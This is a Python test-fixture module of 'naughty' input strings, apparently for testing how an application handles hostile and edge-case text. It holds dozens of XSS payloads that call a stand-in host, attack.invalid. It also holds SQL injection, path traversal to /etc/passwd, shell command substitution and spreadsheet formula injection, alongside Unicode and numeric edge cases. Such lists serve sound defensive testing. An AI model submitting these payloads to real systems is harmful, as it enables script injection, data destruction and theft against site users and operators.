"""Strings that break programs, written for these tests: ATTACKS try to run or to fetch, NAUGHTY are all.

An attack that works shows a dialog, changes the page's title, or asks attack.invalid for something.
"""

from __future__ import annotations

ATTACKS: tuple[str, ...] = tuple(
    line.replace("RUN", "alert(document.title='pwned')").replace("HOST", "//attack.invalid")
    for line in r"""
<script>RUN</script>
<SCRIPT>RUN</SCRIPT>
<script >RUN</script >
<script/x>RUN</script>
<scr<script>ipt>RUN</scr</script>ipt>
<script src=http:HOST/a.js></script>
<script src="HOST/a.js"></script>
<script type=module>import "http:HOST/a.js"</script>
<script type="text/javascript">RUN;//</script>
<script>/*</script><script>*/RUN</script>
</script><script>RUN</script>
</script ><script>RUN</script>
</SCRIPT><script>RUN</script>
</script/><script>RUN</script>
</scRipt
></script><img src=x onerror=RUN>
<!--<script>
<!--<script></script><script>RUN</script>
--><script>RUN</script>
--!><script>RUN</script>
<!--
<![CDATA[<script>RUN</script>]]>
]]><script>RUN</script>
</title><script>RUN</script>
</style><script>RUN</script>
</textarea><script>RUN</script>
</noscript><script>RUN</script>
</template><script>RUN</script>
</body></html><script>RUN</script>
<img src=x onerror=RUN>
<img src=x onerror="RUN">
<img src=x onerror='RUN'>
<img/src=x/onerror=RUN>
<img src=x:x onerror=RUN//
<img src="http:HOST/pixel.gif">
<img srcset="http:HOST/pixel.gif 1x">
<img src=http:HOST/a loading=eager>
<image src=x onerror=RUN>
<svg onload=RUN>
<svg/onload=RUN>
<svg><script>RUN</script></svg>
<svg><animate onbegin=RUN attributeName=x dur=1s>
<svg><image href="http:HOST/a.svg"></svg>
<svg><use href="http:HOST/a.svg#b"></svg>
<svg><foreignObject><iframe srcdoc="<script>parent.RUN</script>"></iframe></foreignObject></svg>
<svg><style>*{background:url(http:HOST/a)}</style></svg>
<math><mtext><img src=x onerror=RUN></mtext></math>
<math><mi xlink:href="javascript:RUN">x</mi></math>
<body onload=RUN>
<body background="http:HOST/a">
<iframe src="javascript:RUN"></iframe>
<iframe srcdoc="<script>parent.RUN</script>"></iframe>
<iframe src="http:HOST/"></iframe>
<frameset onload=RUN>
<object data="javascript:RUN"></object>
<object data="http:HOST/a.swf"></object>
<embed src="javascript:RUN">
<embed src="http:HOST/a">
<applet code=RUN></applet>
<base href="http:HOST/">
<link rel=stylesheet href="http:HOST/a.css">
<link rel=prefetch href="http:HOST/a">
<link rel=preload as=image href="http:HOST/a">
<link rel=dns-prefetch href="HOST">
<meta http-equiv=refresh content="0;url=http:HOST/">
<meta http-equiv="Content-Security-Policy" content="default-src *">
<style>@import "http:HOST/a.css";</style>
<style>body{background:url("http:HOST/a")}</style>
<style>@font-face{font-family:x;src:url(http:HOST/a)}*{font-family:x}</style>
<div style="background:url(http:HOST/a)">x</div>
<div style="width:expression(RUN)">x</div>
<p style="position:fixed;inset:0;z-index:9">cover</p>
<video src="http:HOST/a.mp4" autoplay></video>
<video><source onerror=RUN></video>
<video poster="http:HOST/a.png"></video>
<audio src=x onerror=RUN>
<input autofocus onfocus=RUN>
<select autofocus onfocus=RUN>
<textarea autofocus onfocus=RUN></textarea>
<button onclick=RUN>press</button>
<details open ontoggle=RUN>
<marquee onstart=RUN>x</marquee>
<a href="javascript:RUN">click</a>
<a href="jav&#x09;ascript:RUN">click</a>
<a href="data:text/html,<script>RUN</script>">click</a>
<a href="http:HOST/" ping="http:HOST/ping">click</a>
<form action="http:HOST/"><input type=submit></form>
<form><button formaction="javascript:RUN">x</button></form>
<isindex action="javascript:RUN">
<div onmouseover=RUN>x</div>
<div onpointerenter=RUN style="position:fixed;inset:0">x</div>
<x onclick=RUN tabindex=1 id=x>
<template><script>RUN</script></template>
<portal src="http:HOST/"></portal>
<table background="http:HOST/a">
<td background="javascript:RUN">
<xss style="animation:x" onanimationstart=RUN>
<plaintext>
<xmp><script>RUN</script></xmp>
<noscript><p title="</noscript><img src=x onerror=RUN>">
<dialog open onclose=RUN>x</dialog>
javascript:RUN
JaVaScRiPt:RUN
javascript://attack.invalid/%0aRUN
 javascript:RUN
java	script:RUN
javascript&colon;RUN
vbscript:msgbox(1)
data:text/html,<script>RUN</script>
data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==
data:image/svg+xml,<svg onload=RUN>
blob:http:HOST/1
file:///etc/passwd
view-source:http:HOST/
http:HOST/"onmouseover="RUN
http:HOST/' onclick='RUN
http:HOST/><script>RUN</script>
https:HOST@example.com/
http://example.com\@attack.invalid/
HOST/a
\\attack.invalid\share
" onmouseover="RUN
' onmouseover='RUN
"><script>RUN</script>
'><script>RUN</script>
`><script>RUN</script>
" autofocus onfocus="RUN
x" style="background:url(http:HOST/a)
";RUN;//
';RUN;//
\";RUN;//
\\";RUN;//
`;RUN;//
${RUN}
#{RUN}
{{RUN}}
{{ script }}
{{ data }}
{{constructor.constructor('RUN')()}}
{%RUN%}
<%= RUN %>
[[RUN]]
"}];RUN;[{"
"]}</script><script>RUN</script>
\u003cscript\u003eRUN\u003c/script\u003e
\x3cscript\x3eRUN\x3c/script\x3e
&lt;script&gt;RUN&lt;/script&gt;
&#60;script&#62;RUN&#60;/script&#62;
&#x3c;img src=x onerror=RUN&#x3e;
%3Cscript%3ERUN%3C/script%3E
＜script＞RUN＜/script＞
‹script›RUN‹/script›
+ADw-script+AD4-RUN+ADw-/script+AD4-
<script>RUN</script
__proto__
constructor
toString
hasOwnProperty
""".strip("\n").split("\n")
)

ASCII_CONTROLS = [f"a{chr(code)}b" for code in (*range(0x20), *range(0x7F, 0xA0))]
SPACES = [f"a{chr(code)}b" for code in (0xA0, 0x1680, *range(0x2000, 0x2010), 0x2028, 0x2029, 0x202F, 0x205F, 0x3000)]
MARKS = [
    chr(code) + "left to right" for code in (*range(0x200B, 0x2010), *range(0x202A, 0x202F), *range(0x2060, 0x2070))
]
SURROGATES = ["\ud800", "\udfff", "a\ud83d", "\ude00b", "\udfff\ud800", "\ud800" * 50]
EDGES = [chr(code) for code in (0xFEFF, 0xFFF9, 0xFFFD, 0xFFFE, 0xFFFF, 0x1F600, 0x1FFFE, 0xE0001, 0x10FFFF)]
PUNCTUATION = [char * times for char in "!\"#$%&'()*+,-./:;<=>?@[\\]^_`{|}~" for times in (1, 7)]
QUOTES = [left + right for left in "\"'`“”‘’«»\\" for right in "\"'`<>&\\"]
EMPTY = ["", " ", "\t", "\n", "\r\n", "\xa0", "null", "None", "undefined", "nil", "NaN", "N/A", "n/a", "-", "true", "0"]
NUMBERS = [
    "1e309",
    "-0",
    "0x10",
    "1/0",
    "1,000.00",
    "1.000,00",
    "９９９",
    "١٢٣",
    "Infinity",
    "9" * 400,
    "1_000",
    "٪",
    "²",
]
FORMULAS = ["=1+1", "+1", "-1", "@SUM(A1)", '=HYPERLINK("http://attack.invalid")', "\t=1", "=cmd|' /C calc'!A0"]
PATHS = [
    "../../etc/passwd",
    "C:\\con\\aux",
    "%00",
    "%s%n%x",
    "{0}",
    "{}",
    "~",
    "/dev/null",
    "a\0b",
    "$HOME",
    "`id`",
    "$(id)",
]
QUERIES = [
    "' OR 1=1 --",
    '"; DROP TABLE postings; --',
    "1;2",
    "%' LIKE '",
    "\\' UNION SELECT 1",
    "*",
    "?",
    "(((((",
    "[a-",
]
SCRIPTS = [
    "Стажёр по машинному обучению", "机器学习实习生", "機械学習インターン", "머신러닝 인턴", "متدرب تعلم الآلة",
    "מתמחה בלמידת מכונה", "मशीन लर्निंग इंटर्न", "นักศึกษาฝึกงาน", "Μαθητευόμενος", "Thực tập sinh",
    "Stážista – strojové učení", "İşletme ıI",
    "ﬁne-tuning ﬃ", "𝓜𝓛 𝕴𝖓𝖙𝖊𝖗𝖓", "Ⓜ︎Ⓛ", "ʇuǝɯuɹǝʇuI", "ΑΒΓ ΐ ß ẞ", "Å Å Å", "e\u0301 é", "\u202enretni\u202c",
    "﷽", "꧅", "𒐫",
    "👩🏽‍💻👨‍👩‍👧‍👦🏳️‍🌈", "🇩🇪🇫🇷🇺🇸", "1️⃣2️⃣", "☃️☃︎", "ﷺ" * 20, "Z" + "\u0335\u0322\u0347\u0311" * 40, "l̷" * 60, "\u0301" * 30,
]  # fmt: skip
LONG = ["a" * 5000, "W" * 300 + " " + "i" * 300, "word " * 1000, "字" * 2000, "-" * 700, "a/" * 900, "&nbsp;" * 300]
LETTERS = [chr(code) + "x" for code in range(0xA1, 0x180, 3)]

NAUGHTY: tuple[str, ...] = (
    *ATTACKS, *ASCII_CONTROLS, *SPACES, *MARKS, *SURROGATES, *EDGES, *PUNCTUATION, *QUOTES, *EMPTY, *NUMBERS, *FORMULAS,
    *PATHS, *QUERIES, *SCRIPTS, *LONG, *LETTERS,
)  # fmt: skip
